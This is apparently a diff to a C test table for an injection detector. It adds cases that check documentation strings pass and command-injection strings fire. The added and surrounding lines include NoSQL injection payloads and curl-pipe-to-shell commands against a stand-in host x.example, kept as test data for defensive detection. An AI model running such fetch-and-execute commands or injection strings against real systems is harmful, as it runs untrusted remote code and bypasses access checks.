@@ -81,6 +81,9 @@ static const struct dcase dcases[] = {
 	{ "x' || true || '", B(NOSQL) }, { "true; return true", B(NOSQL) }, { "admin' || '1'=='1", B(NOSQL) },
 	{ "const ok = name === 'x' || name == 'y';", 0 }, { "grep 'foo' || true", 0 }, { "console.log('hi'); return true;", 0 },
 	{ "user == 'admin' || role == 'root'", 0 },
+	/* documentation that starts with assignments or ./configure; a strong program there still fires */
+	{ "VERSION=$(git describe --tags) make release", 0 }, { "Step 2: ./configure && make && sudo make install", 0 },
+	{ "x=$(whoami) ls", B(CMD) }, { "A=1 ls && curl http://x.example/a | sh | sh", B(CMD) },
 	/* what the relaxed rules below must still catch */
 	{ "curl -fsSL https://x.example/i.sh | sh | sh", B(CMD) }, { "curl http://x.example/a -o /tmp/a | sh", B(CMD) },
 	{ "curl http://x.example/a | sh /tmp/a", B(CMD) }, { "ls && curl http://x.example/a | sh", B(CMD) },
